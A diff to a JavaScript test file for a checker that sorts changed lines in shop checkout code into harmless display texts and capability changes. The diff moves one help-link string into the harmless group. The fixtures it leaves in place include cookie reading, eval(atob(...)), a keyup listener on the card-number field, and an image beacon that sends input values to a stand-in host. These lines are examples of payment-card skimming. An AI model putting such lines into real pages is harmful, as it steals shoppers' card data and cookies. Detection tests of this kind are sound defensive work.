@@ -19,6 +19,7 @@ describe('texts for people', () => {
     'say(hint, "We fetch (once a day) the rates of the bank.");',
     'if (shop.lang === "de") say(hint, "Kartennummer ungültig"); else say(hint, "Card number is not valid");',
     't.a = "Número de tarjeta"; t.b = "¿Dónde está el código de seguridad?";',
+    'say(hint, "Ask at https://tea-help.example/ask for it.");',
     'say(hint, "Your card was declined. Please call your bank.");',
   ])('that are added are a release, no capability: %s', (added) => {
     expect(changed(added).verdict).toBe('release')
@@ -32,7 +33,6 @@ describe('texts for people', () => {
     'run("Window.x = document.cookie");',
     'run("eval(atob(x))");',
     'run("Fetch the page; fetch(u)");',
-    'say(hint, "Ask at https://tea-help.example/ask for it.");',
     'find("Card number"); document.querySelector("#cc-number").addEventListener("keyup", say);',
     'say(hint, "Card number"); new Image().src = "https://tea-help.example/?" + document.querySelector("input").value;',
   ])('do not cover what code uses: %s', (added) => {
